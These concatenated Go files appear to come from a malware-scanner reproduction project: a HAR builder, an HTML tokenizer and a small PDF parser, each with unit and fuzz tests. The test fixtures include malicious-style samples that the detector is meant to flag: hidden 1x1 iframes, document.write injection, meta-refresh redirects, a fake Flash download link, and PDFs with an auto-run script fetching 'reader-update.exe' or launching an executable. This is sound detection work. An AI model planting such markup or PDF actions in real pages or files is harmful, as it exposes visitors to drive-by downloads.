		t.Fatal("intermediate hop should not carry body text")
	}
	// The second entry must start after the first hop's latency.
	if l.Entries[1].StartedDateTime <= l.Entries[0].StartedDateTime {
		t.Fatalf("entry timestamps not advancing: %q vs %q",
			l.Entries[0].StartedDateTime, l.Entries[1].StartedDateTime)
	}
}

func TestEncodeDecodeRoundTrip(t *testing.T) {
	b := NewBuilder()
	start := time.Date(2015, 6, 1, 12, 0, 0, 0, time.UTC)
	pid := b.AddPage("session", start)
	b.AddResult(pid, "UA", start, sampleResult())

	var buf bytes.Buffer
	if err := Encode(&buf, b.Log()); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"log"`) {
		t.Fatal("encoded HAR missing top-level log key")
	}
	decoded, err := Decode(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if decoded.Version != "1.2" {
		t.Fatalf("version = %q", decoded.Version)
	}
	if len(decoded.Entries) != 2 {
		t.Fatalf("entries after round trip = %d", len(decoded.Entries))
	}
	if decoded.Entries[1].Response.Content.Text != "<html>page body</html>" {
		t.Fatal("body text lost in round trip")
	}
}

func TestDecodeErrors(t *testing.T) {
	if _, err := Decode(strings.NewReader("not json")); err == nil {
		t.Fatal("want error for bad JSON")
	}
	if _, err := Decode(strings.NewReader(`{"notlog": {}}`)); err == nil {
		t.Fatal("want error for missing log key")
	}
	if _, err := Decode(strings.NewReader(`{"log": {"entries": []}}`)); err == nil {
		t.Fatal("want error for missing version")
	}
}

func TestEntriesForPage(t *testing.T) {
	b := NewBuilder()
	start := time.Now()
	p1 := b.AddPage("one", start)
	p2 := b.AddPage("two", start)
	b.AddResult(p1, "UA", start, sampleResult())
	b.AddResult(p2, "UA", start, sampleResult())
	l := b.Log()
	if got := len(l.EntriesForPage(p1)); got != 2 {
		t.Fatalf("entries for p1 = %d", got)
	}
	if got := len(l.EntriesForPage("nonexistent")); got != 0 {
		t.Fatalf("entries for unknown page = %d", got)
	}
}

func TestFinalURLs(t *testing.T) {
	b := NewBuilder()
	start := time.Now()
	pid := b.AddPage("one", start)
	b.AddResult(pid, "UA", start, sampleResult())
	finals := b.Log().FinalURLs()
	if finals[pid] != "http://b.example/land" {
		t.Fatalf("final URL = %q", finals[pid])
	}
}

func TestAddResultNil(t *testing.T) {
	b := NewBuilder()
	b.AddResult("p", "UA", time.Now(), nil) // must not panic
	if len(b.Log().Entries) != 0 {
		t.Fatal("nil result added entries")
	}
}

func TestPageIDsUnique(t *testing.T) {
	b := NewBuilder()
	ids := map[string]bool{}
	for i := 0; i < 100; i++ {
		id := b.AddPage("p", time.Now())
		if ids[id] {
			t.Fatalf("duplicate page id %q", id)
		}
		ids[id] = true
	}
}

func BenchmarkEncode(b *testing.B) {
	bld := NewBuilder()
	start := time.Now()
	for i := 0; i < 100; i++ {
		pid := bld.AddPage("p", start)
		bld.AddResult(pid, "UA", start, sampleResult())
	}
	l := bld.Log()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var buf bytes.Buffer
		if err := Encode(&buf, l); err != nil {
			b.Fatal(err)
		}
	}
}
