package htmlparse

import (
	"testing"
)

// FuzzTokenize drives the tokenizer/DOM builder and every accessor the
// scanner stack leans on over arbitrary markup. The parser's contract is
// total: any input yields a document without panicking, and the accessors
// stay within the parsed element set.
func FuzzTokenize(f *testing.F) {
	seeds := []string{
		"",
		"plain text, no markup",
		"<html><head><title>Shop — Business</title></head><body><p>hi</p></body></html>",
		`<iframe src="http://x.sim/t" width="1" height="1" style="visibility:hidden"></iframe>`,
		`<script>document.write('<iframe src=http://p.sim/x>');</script>`,
		`<script src="//cdn.sim/lib.js"></script><a href="/next.pdf">doc</a>`,
		`<meta http-equiv="refresh" content="0; url=http://land.sim/offer">`,
		`<a href="data:text/html,%3Chtml%3E" data-dm-title="Flash Player" class="download_link">install</a>`,
		`<embed src="http://cdn.sim/AdFlash46.swf" type="application/x-shockwave-flash">`,
		"<div><p><span>unclosed nesting",
		"<<>><tag attr=>< iframe >",
		`<iframe style="position:absolute;top:-100px;width: 1px">`,
		"<b\x00roken attr='\xff\xfe'>",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		doc := Parse(src)
		if doc == nil {
			t.Fatal("Parse returned nil document")
		}
		for _, tag := range []string{"iframe", "script", "a", "embed", "object", "meta", "title"} {
			for _, el := range doc.ByTag(tag) {
				if el.Tag != tag {
					t.Fatalf("ByTag(%q) returned element with tag %q", tag, el.Tag)
				}
				ParseStyle(el.Attrs["style"])
				PixelValue(el.Attrs["width"])
				PixelValue(el.Attrs["height"])
				el.Attr("hidden")
			}
		}
		doc.First("title")
		doc.InlineScripts()
		doc.ScriptSrcs()
		doc.MetaRefresh()
		doc.Links()
	})
}
