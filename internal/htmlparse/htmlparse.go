// Package htmlparse implements a small HTML tokenizer and element extractor
// sufficient for the artifacts this study inspects: iframe elements and
// their geometry/visibility attributes, script elements (external src and
// inline bodies), anchors, meta-refresh redirects, and object/embed tags
// referencing Flash content.
//
// It is deliberately not a full HTML5 tree builder — the heuristic scanner
// (the Quttera analog) only needs flat element extraction with attributes
// and inline script bodies, which is also how the real tools' static
// passes work on malformed malware pages that no spec-compliant parser
// would accept anyway. The tokenizer is forgiving: unclosed tags, stray
// '<', bad quoting, and comments all degrade gracefully instead of
// erroring.
package htmlparse

import (
	"strings"
)

// Element is one parsed HTML element.
type Element struct {
	// Tag is the lowercased tag name ("iframe", "script", ...).
	Tag string
	// Attrs maps lowercased attribute names to their (unquoted) values.
	// Valueless attributes map to "". The map is nil for attribute-less
	// elements — reads stay safe, and most elements on real pages carry no
	// attributes, so the parser skips the map allocation entirely.
	Attrs map[string]string
	// Text is the raw text between an element's open and close tag. It is
	// only populated for HTML raw-text elements, whose content is not
	// markup: script, style, title, textarea.
	Text string
	// SelfClosing records a trailing "/>".
	SelfClosing bool
	// Offset is the byte offset of the '<' that opened the element.
	Offset int
}

// Attr returns the value of the named attribute (lowercase) and whether it
// was present.
func (e *Element) Attr(name string) (string, bool) {
	v, ok := e.Attrs[name]
	return v, ok
}

// Document is the flat parse of an HTML page.
type Document struct {
	// Elements lists every parsed element in document order.
	Elements []Element
	// Raw is the input.
	Raw string
}

// bodyTags are raw-text tags whose inner content is captured verbatim and
// never re-parsed as markup. Capturing bodies of nestable containers (div,
// a, ...) would swallow their children, so only true raw-text elements are
// listed.
var bodyTags = map[string]bool{
	"script": true, "style": true, "title": true, "textarea": true,
}

// Parse tokenizes src into a flat Document. It never fails: arbitrarily
// broken markup yields a best-effort element list.
func Parse(src string) *Document {
	doc := &Document{Raw: src}
	i := 0
	n := len(src)
	for i < n {
		lt := strings.IndexByte(src[i:], '<')
		if lt < 0 {
			break
		}
		pos := i + lt
		rest := src[pos:]
		switch {
		case strings.HasPrefix(rest, "<!--"):
			end := strings.Index(rest[4:], "-->")
			if end < 0 {
				i = n
				continue
			}
			i = pos + 4 + end + 3
		case strings.HasPrefix(rest, "<!") || strings.HasPrefix(rest, "<?"):
			end := strings.IndexByte(rest, '>')
			if end < 0 {
				i = n
				continue
			}
			i = pos + end + 1
		case strings.HasPrefix(rest, "</"):
			end := strings.IndexByte(rest, '>')
			if end < 0 {
				i = n
				continue
			}
			i = pos + end + 1
		default:
			el, next, ok := parseTag(src, pos)
			if !ok {
				i = pos + 1
				continue
			}
			i = next
			if bodyTags[el.Tag] && !el.SelfClosing {
				body, after := captureBody(src, i, el.Tag)
				el.Text = body
				i = after
			}
			doc.Elements = append(doc.Elements, el)
		}
	}
	return doc
}

// parseTag parses an opening tag starting at src[pos] == '<'. It returns
// the element, the offset just past '>', and whether a valid tag was found.
func parseTag(src string, pos int) (Element, int, bool) {
	i := pos + 1
	n := len(src)
	start := i
	for i < n && isNameByte(src[i]) {
		i++
	}
	if i == start {
		return Element{}, 0, false
	}
	el := Element{
		Tag:    strings.ToLower(src[start:i]),
		Offset: pos,
	}
	setAttr := func(name, val string) {
		if el.Attrs == nil {
			el.Attrs = make(map[string]string, 4)
		}
		el.Attrs[name] = val
	}
	for i < n {
		// Skip whitespace.
		for i < n && isSpace(src[i]) {
			i++
		}
		if i >= n {
			return el, n, true
		}
		if src[i] == '>' {
			return el, i + 1, true
		}
		if src[i] == '/' {
			el.SelfClosing = true
			i++
			continue
		}
		// Attribute name.
		nameStart := i
		for i < n && src[i] != '=' && src[i] != '>' && src[i] != '/' && !isSpace(src[i]) {
			i++
		}
		name := strings.ToLower(src[nameStart:i])
		if name == "" {
			i++
			continue
		}
		// Skip whitespace before '='.
		for i < n && isSpace(src[i]) {
			i++
		}
		if i < n && src[i] == '=' {
			i++
			for i < n && isSpace(src[i]) {
				i++
			}
			val, next := parseAttrValue(src, i)
			setAttr(name, val)
			i = next
		} else {
			setAttr(name, "")
		}
	}
	return el, n, true
}

func parseAttrValue(src string, i int) (string, int) {
	n := len(src)
	if i >= n {
		return "", n
	}
	switch src[i] {
	case '"', '\'':
		quote := src[i]
		i++
		end := strings.IndexByte(src[i:], quote)
		if end < 0 {
			return src[i:], n
		}
		return src[i : i+end], i + end + 1
	default:
		start := i
		for i < n && !isSpace(src[i]) && src[i] != '>' {
			i++
		}
		return src[start:i], i
	}
}

// captureBody returns the raw text until the matching close tag (case
// insensitive), and the offset just past the close tag. A missing close
// tag captures to end of input.
func captureBody(src string, i int, tag string) (string, int) {
	close1 := "</" + tag + ">"
	idx := asciiIndexFold(src[i:], close1)
	if idx < 0 {
		// Tolerate "</tag " with attributes or whitespace before '>'.
		alt := "</" + tag
		idx = asciiIndexFold(src[i:], alt)
		if idx < 0 {
			return src[i:], len(src)
		}
		gt := strings.IndexByte(src[i+idx:], '>')
		if gt < 0 {
			return src[i : i+idx], len(src)
		}
		return src[i : i+idx], i + idx + gt + 1
	}
	return src[i : i+idx], i + idx + len(close1)
}

// asciiIndexFold reports the first index of sub in s under ASCII case
// folding. The comparison is byte-wise so returned offsets always index
// s directly — strings.ToLower re-encodes invalid UTF-8 as the
// multi-byte replacement rune and shifts offsets.
func asciiIndexFold(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		j := 0
		for j < len(sub) && foldByte(s[i+j]) == foldByte(sub[j]) {
			j++
		}
		if j == len(sub) {
			return i
		}
	}
	return -1
}

func foldByte(c byte) byte {
	if c >= 'A' && c <= 'Z' {
		return c + 'a' - 'A'
	}
	return c
}

func isNameByte(c byte) bool {
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-'
}

func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r'
}

// ByTag returns all elements with the given lowercase tag name.
func (d *Document) ByTag(tag string) []Element {
	var out []Element
	for _, el := range d.Elements {
		if el.Tag == tag {
			out = append(out, el)
		}
	}
	return out
}

// First returns the first element with the tag, or nil.
func (d *Document) First(tag string) *Element {
	for i := range d.Elements {
		if d.Elements[i].Tag == tag {
			return &d.Elements[i]
		}
	}
	return nil
}

// InlineScripts returns the bodies of all script elements without a src
// attribute.
func (d *Document) InlineScripts() []string {
	var out []string
	for _, el := range d.ByTag("script") {
		if _, ok := el.Attrs["src"]; !ok && strings.TrimSpace(el.Text) != "" {
			out = append(out, el.Text)
		}
	}
	return out
}

// ScriptSrcs returns the src attributes of all external script elements.
func (d *Document) ScriptSrcs() []string {
	var out []string
	for _, el := range d.ByTag("script") {
		if src, ok := el.Attrs["src"]; ok && src != "" {
			out = append(out, strings.TrimSpace(src))
		}
	}
	return out
}

// MetaRefresh returns the target URL of a <meta http-equiv="refresh">
// element, or "" if none. Meta refresh is the final hop of the Figure 4
// redirection chain.
func (d *Document) MetaRefresh() string {
	for _, el := range d.ByTag("meta") {
		if !strings.EqualFold(el.Attrs["http-equiv"], "refresh") {
			continue
		}
		content := el.Attrs["content"]
		// Format: "5; url=http://target/".
		if semi := strings.IndexByte(content, ';'); semi >= 0 {
			rest := strings.TrimSpace(content[semi+1:])
			lower := strings.ToLower(rest)
			if strings.HasPrefix(lower, "url=") {
				return strings.TrimSpace(rest[4:])
			}
		}
	}
	return ""
}

// Links returns the href attributes of all anchors.
func (d *Document) Links() []string {
	var out []string
	for _, el := range d.ByTag("a") {
		if href, ok := el.Attrs["href"]; ok && href != "" {
			out = append(out, strings.TrimSpace(href))
		}
	}
	return out
}

// Style is a parsed inline CSS style attribute.
type Style map[string]string

// ParseStyle parses "k: v; k2: v2" inline CSS into a map with lowercase
// keys and trimmed values.
func ParseStyle(s string) Style {
	out := make(Style)
	for _, decl := range strings.Split(s, ";") {
		colon := strings.IndexByte(decl, ':')
		if colon < 0 {
			continue
		}
		k := strings.ToLower(strings.TrimSpace(decl[:colon]))
		v := strings.TrimSpace(decl[colon+1:])
		if k != "" && v != "" {
			out[k] = v
		}
	}
	return out
}

// PixelValue parses a CSS/attribute length like "1", "1px", " 24px " into
// integer pixels. It returns (value, true) on success. Percentages and
// other units return false.
func PixelValue(s string) (int, bool) {
	s = strings.TrimSpace(strings.ToLower(s))
	s = strings.TrimSuffix(s, "px")
	s = strings.TrimSpace(s)
	if s == "" {
		return 0, false
	}
	neg := false
	if s[0] == '-' {
		neg = true
		s = s[1:]
	}
	v := 0
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < '0' || c > '9' {
			return 0, false
		}
		v = v*10 + int(c-'0')
		if v > 1<<30 {
			return 0, false
		}
	}
	if neg {
		v = -v
	}
	return v, true
}
