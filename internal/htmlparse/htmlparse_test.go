package htmlparse

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestParseSimplePage(t *testing.T) {
	doc := Parse(`<html><head><title>Hi</title></head>
<body><p>text</p><a href="http://x.com/a">link</a></body></html>`)
	if el := doc.First("title"); el == nil || el.Text != "Hi" {
		t.Fatalf("title = %+v", el)
	}
	links := doc.Links()
	if len(links) != 1 || links[0] != "http://x.com/a" {
		t.Fatalf("links = %v", links)
	}
}

func TestIframeAttributes(t *testing.T) {
	// The paper's Code 1: a barely visible iframe.
	src := `<iframe align="right" height="1" name="cwindow" scrolling="NO"
 src="http://zfiyayeshira.blogspot.com/" style="border:8 solid #990000;" width="1">
</iframe>`
	doc := Parse(src)
	iframes := doc.ByTag("iframe")
	if len(iframes) != 1 {
		t.Fatalf("iframes = %d, want 1", len(iframes))
	}
	f := iframes[0]
	if f.Attrs["height"] != "1" || f.Attrs["width"] != "1" {
		t.Fatalf("geometry attrs = %v", f.Attrs)
	}
	if f.Attrs["src"] != "http://zfiyayeshira.blogspot.com/" {
		t.Fatalf("src = %q", f.Attrs["src"])
	}
	if f.Attrs["scrolling"] != "NO" {
		t.Fatalf("scrolling = %q (case must be preserved in values)", f.Attrs["scrolling"])
	}
}

func TestTransparentIframe(t *testing.T) {
	// The paper's Code 2: allowtransparency makes it invisible.
	src := `<iframe src="https://acces.direction-x.com/a.php?t=29"
 width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>`
	doc := Parse(src)
	f := doc.First("iframe")
	if f == nil {
		t.Fatal("no iframe parsed")
	}
	if f.Attrs["allowtransparency"] != "true" {
		t.Fatalf("allowtransparency = %q", f.Attrs["allowtransparency"])
	}
}

func TestInlineAndExternalScripts(t *testing.T) {
	src := `<script type="text/javascript" src="http://company.ooo/tfjw2pmk.php?id=8689556"></script>
<script>var x = 1; document.write('<iframe src="http://t.qservz.com/ai.aspx">');</script>`
	doc := Parse(src)
	srcs := doc.ScriptSrcs()
	if len(srcs) != 1 || !strings.Contains(srcs[0], "company.ooo") {
		t.Fatalf("script srcs = %v", srcs)
	}
	inline := doc.InlineScripts()
	if len(inline) != 1 || !strings.Contains(inline[0], "document.write") {
		t.Fatalf("inline scripts = %v", inline)
	}
}

func TestScriptBodyNotParsedAsHTML(t *testing.T) {
	// The iframe inside document.write must not appear as an element.
	src := `<script>document.write('<iframe src="http://evil/x">')</script><p>after</p>`
	doc := Parse(src)
	if len(doc.ByTag("iframe")) != 0 {
		t.Fatal("iframe inside script body must not be parsed as an element")
	}
	if len(doc.ByTag("p")) != 1 {
		t.Fatal("element after script body lost")
	}
}

func TestMetaRefresh(t *testing.T) {
	doc := Parse(`<meta http-equiv="refresh" content="0; url=http://www.theclickcheck.com?sub=1729235497">`)
	if got := doc.MetaRefresh(); got != "http://www.theclickcheck.com?sub=1729235497" {
		t.Fatalf("MetaRefresh = %q", got)
	}
}

func TestMetaRefreshCaseAndSpacing(t *testing.T) {
	doc := Parse(`<META HTTP-EQUIV='Refresh' CONTENT='5 ;  URL=http://target.example/'>`)
	if got := doc.MetaRefresh(); got != "http://target.example/" {
		t.Fatalf("MetaRefresh = %q", got)
	}
}

func TestMetaRefreshAbsent(t *testing.T) {
	doc := Parse(`<meta charset="utf-8"><meta http-equiv="content-type" content="text/html">`)
	if got := doc.MetaRefresh(); got != "" {
		t.Fatalf("MetaRefresh = %q, want empty", got)
	}
}

func TestCommentsSkipped(t *testing.T) {
	doc := Parse(`<!-- <iframe src="http://evil/"> --><p>ok</p>`)
	if len(doc.ByTag("iframe")) != 0 {
		t.Fatal("commented-out iframe must be ignored")
	}
	if len(doc.ByTag("p")) != 1 {
		t.Fatal("content after comment lost")
	}
}

func TestUnterminatedComment(t *testing.T) {
	doc := Parse(`<p>before</p><!-- unterminated <iframe src="x">`)
	if len(doc.ByTag("p")) != 1 || len(doc.ByTag("iframe")) != 0 {
		t.Fatalf("unterminated comment handling wrong: %+v", doc.Elements)
	}
}

func TestMalformedMarkup(t *testing.T) {
	cases := []string{
		"",
		"<",
		"<<<<",
		"<iframe",
		"<iframe src=",
		`<iframe src="unterminated`,
		"< notatag >",
		"plain text only",
		"<a href='mix\"quotes'>x</a>",
	}
	for _, src := range cases {
		doc := Parse(src) // must not panic
		_ = doc.Links()
		_ = doc.MetaRefresh()
	}
}

func TestValuelessAndUnquotedAttrs(t *testing.T) {
	doc := Parse(`<iframe hidden width=1 height=1 src=http://e.com/x></iframe>`)
	f := doc.First("iframe")
	if f == nil {
		t.Fatal("no iframe")
	}
	if _, ok := f.Attr("hidden"); !ok {
		t.Fatal("valueless attr lost")
	}
	if f.Attrs["width"] != "1" || f.Attrs["src"] != "http://e.com/x" {
		t.Fatalf("unquoted attrs = %v", f.Attrs)
	}
}

func TestSelfClosing(t *testing.T) {
	doc := Parse(`<img src="x.png"/><br/>`)
	img := doc.First("img")
	if img == nil || !img.SelfClosing {
		t.Fatalf("img = %+v", img)
	}
}

func TestDeceptiveDownloadSnippet(t *testing.T) {
	// Shape of the paper's Code 4: div with data-dm attributes and anchor
	// with a data: URL href.
	src := `<div id="dm_topbar">
<a href="data:text/html,%3Chtml%3E" data-dm-title="Flash Player" data-dm-filesize="1.1"
 target="_blank" data-dm-href="http://yupfiles.net/downloader?id=7b22" class="download_link">
<div id="dm_topbar_block">
<span id="dm_topbar_text">A pagina necessita do plugin para continuar.</span>
</div></a></div>`
	doc := Parse(src)
	var anchor *Element
	for i := range doc.Elements {
		if doc.Elements[i].Tag == "a" {
			anchor = &doc.Elements[i]
			break
		}
	}
	if anchor == nil {
		t.Fatal("anchor not parsed")
	}
	if anchor.Attrs["data-dm-title"] != "Flash Player" {
		t.Fatalf("data-dm-title = %q", anchor.Attrs["data-dm-title"])
	}
	if !strings.HasPrefix(anchor.Attrs["href"], "data:text/html") {
		t.Fatalf("href = %q", anchor.Attrs["href"])
	}
}

func TestParseStyle(t *testing.T) {
	st := ParseStyle("width: 1px; height: 1px; position: absolute; top: -100px;")
	if st["width"] != "1px" || st["top"] != "-100px" {
		t.Fatalf("style = %v", st)
	}
	if len(ParseStyle("")) != 0 {
		t.Fatal("empty style should parse to empty map")
	}
	if len(ParseStyle("no-colon-here")) != 0 {
		t.Fatal("declaration without colon should be dropped")
	}
}

func TestPixelValue(t *testing.T) {
	cases := []struct {
		in   string
		want int
		ok   bool
	}{
		{"1", 1, true},
		{"1px", 1, true},
		{" 24PX ", 24, true},
		{"-100px", -100, true},
		{"0", 0, true},
		{"100%", 0, false},
		{"", 0, false},
		{"px", 0, false},
		{"12abc", 0, false},
	}
	for _, tc := range cases {
		got, ok := PixelValue(tc.in)
		if got != tc.want || ok != tc.ok {
			t.Errorf("PixelValue(%q) = (%d, %v), want (%d, %v)", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

func TestParseNeverPanicsProperty(t *testing.T) {
	f := func(junk string) bool {
		doc := Parse(junk)
		for _, el := range doc.Elements {
			if el.Tag == "" {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestOffsetsAreIncreasing(t *testing.T) {
	doc := Parse(`<div><p>a</p><p>b</p><iframe src="x"></iframe></div>`)
	prev := -1
	for _, el := range doc.Elements {
		if el.Offset <= prev {
			t.Fatalf("offsets not strictly increasing: %+v", doc.Elements)
		}
		prev = el.Offset
	}
}

func BenchmarkParsePage(b *testing.B) {
	var sb strings.Builder
	for i := 0; i < 50; i++ {
		sb.WriteString(`<div class="row"><a href="http://example.com/p">x</a>`)
		sb.WriteString(`<script>var a = 1; track(a);</script>`)
		sb.WriteString(`<iframe width="1" height="1" src="http://t.example/i"></iframe></div>`)
	}
	page := sb.String()
	b.SetBytes(int64(len(page)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Parse(page)
	}
}
