package pdf

import (
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/jsengine"
)

func TestBenignDocumentParses(t *testing.T) {
	data := NewBuilder().Encode()
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Objects) != 4 {
		t.Fatalf("objects = %d", len(doc.Objects))
	}
	if len(doc.Malformations) != 0 {
		t.Fatalf("benign document reports malformations: %v", doc.Malformations)
	}
	if doc.Objects[1].Dict["Type"] != "/Catalog" {
		t.Fatalf("catalog dict = %v", doc.Objects[1].Dict)
	}
	if !strings.Contains(doc.Objects[4].Stream, "Hello") {
		t.Fatalf("stream = %q", doc.Objects[4].Stream)
	}
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if f.Malicious() {
		t.Fatalf("benign document flagged: %+v", f)
	}
}

func TestOpenActionJavaScript(t *testing.T) {
	js := `window.location.href = "http://drop.example/get?downloadAs=reader-update.exe";`
	data := NewBuilder().AddJavaScriptAction(js).Encode()
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if !f.HasJavaScript || f.OpenActionJS == "" {
		t.Fatalf("findings = %+v", f)
	}
	if !f.Malicious() {
		t.Fatal("auto-open JS not flagged")
	}
	// The extracted JS is real enough for the sandbox to trace.
	tr, err := jsengine.Execute(f.OpenActionJS)
	if err != nil {
		t.Fatal(err)
	}
	if len(tr.Navigations) != 1 || len(tr.Downloads) != 1 {
		t.Fatalf("embedded JS trace = %+v", tr)
	}
}

func TestLaunchAction(t *testing.T) {
	data := NewBuilder().AddLaunchAction("C:\\temp\\Flash-Player.exe").Encode()
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if f.LaunchTarget == "" || !strings.Contains(f.LaunchTarget, "Flash-Player.exe") {
		t.Fatalf("launch target = %q", f.LaunchTarget)
	}
	if !f.Malicious() {
		t.Fatal("executable launch not flagged")
	}
	// Launching a document viewer is not malicious by itself.
	doc2 := NewBuilder().AddLaunchAction("notes.txt").Encode()
	f2, err := Inspect(doc2)
	if err != nil {
		t.Fatal(err)
	}
	if f2.Malicious() {
		t.Fatalf("txt launch flagged: %+v", f2)
	}
}

func TestBrokenXrefDetected(t *testing.T) {
	data := NewBuilder().BreakXref().Encode()
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "bad-xref") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
	// Objects must still parse despite the broken xref (forgiving read).
	if len(doc.Objects) != 4 {
		t.Fatalf("objects despite bad xref = %d", len(doc.Objects))
	}
}

func TestMalformedPlusJavaScriptIsMalicious(t *testing.T) {
	// Non-auto-run JS alone is suspicious but tolerated; combined with a
	// deliberately broken xref it crosses the line.
	clean := NewBuilder()
	clean.objects = append(clean.objects, &Object{
		Num:  5,
		Dict: map[string]string{"S": "/JavaScript", "JS": "(var x = heapSpray();)"},
	})
	f, err := Inspect(clean.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if f.Malicious() {
		t.Fatalf("non-auto JS alone flagged: %+v", f)
	}

	bad := NewBuilder().BreakXref()
	bad.objects = append(bad.objects, &Object{
		Num:  5,
		Dict: map[string]string{"S": "/JavaScript", "JS": "(var x = heapSpray();)"},
	})
	f2, err := Inspect(bad.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if !f2.Malicious() {
		t.Fatalf("malformed+JS not flagged: %+v", f2)
	}
}

func TestContentAfterEOF(t *testing.T) {
	data := NewBuilder().AppendAfterEOF("MZ\x90 payload bytes").Encode()
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "content-after-eof") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
}

func TestMissingEOF(t *testing.T) {
	data := NewBuilder().Encode()
	truncated := data[:len(data)-len("%%EOF\n")]
	doc, err := Parse(truncated)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "missing-eof") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
}

func TestNotAPDF(t *testing.T) {
	if _, err := Parse([]byte("<html>not a pdf</html>")); err == nil {
		t.Fatal("HTML accepted as PDF")
	}
	if _, err := Inspect([]byte("")); err == nil {
		t.Fatal("empty input accepted")
	}
}

func TestHeaderNotAtStart(t *testing.T) {
	data := append([]byte("JUNKJUNK"), NewBuilder().Encode()...)
	doc, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "missing-header") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
	if len(doc.Objects) != 4 {
		t.Fatalf("objects = %d", len(doc.Objects))
	}
}

func TestDuplicateObjects(t *testing.T) {
	b := NewBuilder()
	b.objects = append(b.objects, &Object{Num: 3, Dict: map[string]string{"Type": "/Page"}})
	doc, err := Parse(b.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if !hasMalformation(doc.Malformations, "duplicate-object") {
		t.Fatalf("malformations = %v", doc.Malformations)
	}
}

func TestJSWithParensSurvivesEscaping(t *testing.T) {
	js := `document.write("(nested (parens))"); window.open("http://x.example/");`
	data := NewBuilder().AddJavaScriptAction(js).Encode()
	f, err := Inspect(data)
	if err != nil {
		t.Fatal(err)
	}
	if f.OpenActionJS != js {
		t.Fatalf("JS round trip:\n got %q\nwant %q", f.OpenActionJS, js)
	}
}

func TestParseNeverPanicsOnFuzz(t *testing.T) {
	base := NewBuilder().AddJavaScriptAction(`app.alert(1);`).Encode()
	f := func(pos uint16, b byte) bool {
		data := append([]byte(nil), base...)
		data[int(pos)%len(data)] = b
		doc, err := Parse(data) // may error; must not panic
		if err == nil && doc != nil {
			Inspect(data)
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 600}); err != nil {
		t.Fatal(err)
	}
}

func hasMalformation(list []string, want string) bool {
	for _, m := range list {
		if m == want {
			return true
		}
	}
	return false
}

func BenchmarkInspect(b *testing.B) {
	data := NewBuilder().AddJavaScriptAction(`window.location.href = "http://x/y.exe";`).Encode()
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Inspect(data); err != nil {
			b.Fatal(err)
		}
	}
}
