package pdf

import (
	"testing"
)

// FuzzInspect drives the PDF parser and malformation inspector over
// arbitrary bytes — the native-fuzzing replacement for the byte-flip
// quick.Check loop. Both entry points must be total: reject or accept,
// never panic.
func FuzzInspect(f *testing.F) {
	f.Add(NewBuilder().Encode())
	f.Add(NewBuilder().AddJavaScriptAction(`app.alert(1);`).Encode())
	f.Add(NewBuilder().AddJavaScriptAction(`window.location.href = "http://x/y.exe";`).Encode())
	f.Add([]byte("%PDF-1.4"))
	f.Add([]byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer"))
	f.Add([]byte{})
	f.Add([]byte("not a pdf"))
	f.Fuzz(func(t *testing.T, data []byte) {
		doc, err := Parse(data)
		if err == nil && doc == nil {
			t.Fatal("Parse returned nil document with nil error")
		}
		Inspect(data) // may error, must not panic
	})
}
