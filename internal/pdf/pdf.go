// Package pdf implements a miniature PDF reader and writer sufficient for
// the document-malware class the study's heuristic scanner advertises
// coverage of: Quttera "can detect malicious hidden iframe elements,
// malicious re-directs, malvertising, JavaScript exploits, and malformed
// PDFs that are commonly used by attackers" (§III-B).
//
// The format modeled here is the honest core of pre-2016 PDF malware:
// an object graph with a catalog, pages and streams, where attackers
// attach an /OpenAction carrying embedded JavaScript (heap-spray or
// redirect payloads that fire on open) or a /Launch action starting an
// external executable, and deliberately malform the cross-reference
// structure to crash naive parsers while Acrobat's forgiving reader
// still renders. The reader is correspondingly forgiving — it scans the
// object graph even when the xref is broken, which is exactly what a
// malware scanner must do.
package pdf

import (
	"fmt"
	"strconv"
	"strings"
)

// Header and footer markers.
const (
	header = "%PDF-1.4"
	footer = "%%EOF"
)

// Object is one parsed PDF object.
type Object struct {
	// Num is the object number ("N 0 obj").
	Num int
	// Dict holds the object's dictionary entries: keys without the
	// leading slash, values as raw token text (nested dictionaries are
	// flattened into the raw text of the parent value).
	Dict map[string]string
	// Stream is the object's stream content, if any.
	Stream string
}

// Document is a parsed PDF.
type Document struct {
	// Objects maps object number -> object.
	Objects map[int]*Object
	// Malformations lists structural defects found while parsing
	// ("missing-header", "missing-eof", "bad-xref", "duplicate-object",
	// "content-after-eof").
	Malformations []string
	// Raw is the input.
	Raw string
}

// --- writing ---

